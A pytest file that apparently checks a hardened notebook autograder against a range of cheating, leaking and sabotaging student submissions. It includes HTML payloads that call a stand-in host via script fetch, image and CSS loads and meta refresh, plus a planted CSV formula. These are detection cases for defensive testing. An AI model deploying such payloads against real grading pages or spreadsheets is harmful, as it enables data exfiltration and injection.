"""The hostile range: what attacks, leaks, sabotage and broken files get out of this grader and of stock nbgrader."""

import collections
import os

import pytest

from tests.range import KINDS, RANGE
from tests.range.attack import PHASE, World
from tests.range.course import HONEST, admit, digests, lay_out
from tests.range.ours import graded
from tests.range.stock import baseline, spread
from tests.range.table import counts, shown, table, told
from tests.range.verdict import active, plain, verdict

QUICK = [name for name, attack in RANGE.items() if attack.quick]
WHOLE = pytest.mark.slow


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """Name -> verdict, after the representatives were graded in one batch with an honest class."""
    return plain(graded(tmp_path_factory.mktemp("range"), QUICK, cell=8.0)[1])


@pytest.mark.parametrize("name", QUICK)
def test_a_representative_gains_and_harms_nothing(batch, name):
    """Does it get no point it does not deserve, no secret, do no harm, and lose no point it earned?"""
    assert told(batch[name]) == ""


def test_honest_students_among_attackers_keep_their_exact_score(batch):
    """Graded before, between and after the attackers: do the honest get what they earned, and a page?"""
    assert told(batch[""]) == ""


def test_the_range_is_wide():
    """Does it hold enough submissions of each class?"""
    kinds = collections.Counter(attack.kind for attack in RANGE.values())
    assert kinds["score"] >= 25 and kinds["leak"] >= 14 and kinds["sabotage"] >= 16 and kinds["fault"] >= 15
    assert {RANGE[name].kind for name in QUICK} == set(KINDS) and len(QUICK) >= 15


# ---- does the judge of the range see anything? -----------------------------------------------------------------------


PAGES = {
    "<script>fetch('http://x/{mark}')</script>": True,
    "<img src='http://x/{mark}'>": True,
    "<p style='background:url(http://x/{mark})'>": True,
    "<a href='javascript:{mark}'>x</a>": True,
    "<b onclick='{mark}'>x</b>": True,
    "<meta http-equiv=refresh content='0; url=http://x/{mark}'>": True,
    "<p title='{mark}'>{mark} &lt;script&gt;</p>": False,
    "<a href='https://x/{mark}'>x</a>": False,
    "<script type='application/json'>{mark}</script>": False,
}


@pytest.mark.parametrize("html", PAGES)
def test_what_acts_on_a_page_is_seen(html):
    """Is a tag that runs, loads or sends told from one that only shows?"""
    assert bool(list(active(html.format(mark="rg0123456789")))) == PAGES[html]


@pytest.fixture
def planted(tmp_path):
    """A course in which the grader did nothing and somebody else did everything wrong."""
    world = lay_out(tmp_path, ["environment", "not-json", "daemon"])
    marks = {name: world.mark(RANGE[name]) for name in ("environment", "daemon")}
    page = tmp_path / "autograde" / "autograded" / "a-full" / PHASE
    page.mkdir(parents=True)
    (page / "x.html").write_text(f"<script>{marks['daemon']}</script>")
    page = tmp_path / "autograde" / "feedback" / RANGE["environment"].who / PHASE
    page.mkdir(parents=True)
    (page / f"{PHASE}.html").write_text(world.canaries["the environment"])
    (tmp_path / "solutions" / "new").write_text("x")
    (tmp_path / "autograde" / "grades.csv").write_text("name,points\n=1+1,-2.5\n")
    return verdict(tmp_path, heard=f"somebody said {marks['environment']}")


def test_the_judge_of_the_range_notices(planted):
    """Are a leaked canary, a visitor, a strange mark, a new file, a formula and silence all noticed?"""
    assert planted["environment"].leaked == ["the environment in feedback", "it reached a listener"]
    assert planted["daemon"].harmed == ["autograded of a-full carries its mark"]
    assert planted["not-json"].lost == ["the grader says nothing of it"]
    assert "solutions/new is new" in planted[""].harmed and "a formula in grades.csv" in planted[""].leaked
    assert {f"{student}: not graded" for student in HONEST} <= set(planted[""].harmed)


def test_every_attack_can_be_written(tmp_path):
    """Does each one hand something in, under a name of its own, with no blank left in its text?"""
    world = lay_out(tmp_path, ports={"tcp": 1, "udp": 2, "unix": "x"})
    names = [name for name in RANGE if name != "picture-of-200-mb"]
    admit(world, names)
    assert len(world.students) == len(names) + len(HONEST) and World.load(tmp_path) == world
    for path in digests(tmp_path):
        if path.endswith(f"{PHASE}.ipynb") and os.path.isfile(tmp_path / path):
            text = (tmp_path / path).read_bytes()
            assert b"@MARK@" not in text and b"@ROOT@" not in text, path


# ---- everything, on both graders -------------------------------------------------------------------------------------


@WHOLE
def test_the_whole_range_against_both_graders(tmp_path):
    """Does no attack get anything out of ours, while stock nbgrader falls for some of each class? (An hour or two.)"""
    ours = plain(graded(tmp_path, list(RANGE))[1])
    stock = dict(baseline(spread({"score": 8, "leak": 6, "sabotage": 3, "fault": 3})))
    print(shown(table(stock, ours)))
    assert {name: told(one) for name, one in ours.items() if told(one)} == {}
    assert counts(stock, "score")["forged"] > 3 and counts(stock, "leak")["leaked"] > 3
